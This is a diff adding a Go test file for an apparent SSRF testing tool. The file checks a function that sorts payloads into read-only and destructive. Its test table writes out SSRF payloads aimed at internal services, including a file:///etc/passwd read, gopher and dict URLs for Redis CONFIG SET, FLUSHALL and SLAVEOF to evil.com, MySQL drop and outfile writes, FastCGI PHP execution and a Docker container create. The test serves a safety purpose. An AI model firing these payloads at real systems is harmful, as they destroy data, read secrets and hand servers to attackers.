@@ -0,0 +1,58 @@
+package payloads
+
+import (
+	"net/url"
+	"testing"
+)
+
+func TestDestructive(t *testing.T) {
+	tests := []struct {
+		name        string
+		value       string
+		destructive bool
+	}{
+		{"HTTP payload", "http://127.0.0.1:6379/", false},
+		{"文件读取", "file:///etc/passwd", false},
+		{"Redis inline INFO", "gopher://127.0.0.1:6379/_INFO", false},
+		{"Redis CONFIG GET", "gopher://127.0.0.1:6379/_CONFIG%20GET%20dir", false},
+		{"Redis RESP dbsize", "gopher://127.0.0.1:6379/_*1%0d%0a$7%0d%0adbsize%0d%0a", false},
+		{"Redis CONFIG SET", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/tmp", true},
+		{"Redis RESP写入", "gopher://127.0.0.1:6379/_*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0ax%0d%0a$1%0d%0a1%0d%0a", true},
+		{"Redis FLUSHALL", GopherURL("127.0.0.1", 6379, []byte("INFO\r\nFLUSHALL\r\n")), true},
+		{"空gopher数据", "gopher://127.0.0.1:3306/_", false},
+		{"dict info", "dict://127.0.0.1:6379/info", false},
+		{"dict 空命令", "dict://127.0.0.1:3306/", false},
+		{"dict CONFIG SET", "dict://127.0.0.1:6379/CONFIG:SET:dir:/var/www", true},
+		{"dict SLAVEOF", "dict://127.0.0.1:6379/slaveof:evil.com:6379", true},
+		{"URL编码的 dict 写入", url.QueryEscape("dict://127.0.0.1:6379/flushall"), true},
+		{"Memcached stats", GopherMemcached("127.0.0.1", 11211, "stats"), false},
+		{"Memcached set", GopherMemcached("127.0.0.1", 11211, "set k 0 0 1", "x"), true},
+		{"SMTP HELO", GopherURL("127.0.0.1", 25, []byte("HELO localhost\r\nQUIT\r\n")), false},
+		{"SMTP发信", GopherSMTP("127.0.0.1", 25, "a@example.com", "b@example.com", "test", "hello"), true},
+		{"MySQL select", GopherMySQL("127.0.0.1", 3306, "root", "select @@version"), false},
+		{"MySQL 写文件", GopherMySQL("127.0.0.1", 3306, "root", "select 1 into outfile '/tmp/x'"), true},
+		{"MySQL drop", GopherMySQL("127.0.0.1", 3306, "root", "drop database test"), true},
+		{"FastCGI 探测", GopherFastCGI("127.0.0.1", 9000, "/gossrf-probe.php", ""), false},
+		{"FastCGI 执行代码", GopherFastCGI("127.0.0.1", 9000, "/index.php", "<?php phpinfo();?>"), true},
+		{"gopher GET", GopherHTTP("127.0.0.1", 80, "GET", "/", nil), false},
+		{"gopher POST", GopherHTTP("127.0.0.1", 2375, "POST", "/containers/create", nil), true},
+		{"IMDSv2 令牌", GetIMDSv2TokenPayload().Value, false},
+		{"无法识别的二进制数据", GopherURL("127.0.0.1", 9999, []byte{0x00, 0x01, 0x02}), true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			command, got := Destructive(tt.value)
+			if got != tt.destructive {
+				t.Errorf("Destructive(%q) = %q, %v, want %v", tt.value, command, got, tt.destructive)
+			}
+		})
+	}
+}
+
+func TestBuiltinProbesReadOnly(t *testing.T) {
+	for _, p := range append(GetHighRiskPayloads(), getGopherProbePayloads()...) {
+		if command, destructive := Destructive(p.Value); destructive {
+			t.Errorf("内置探测payload %q 包含非只读命令 %s", p.Value, command)
+		}
+	}
+}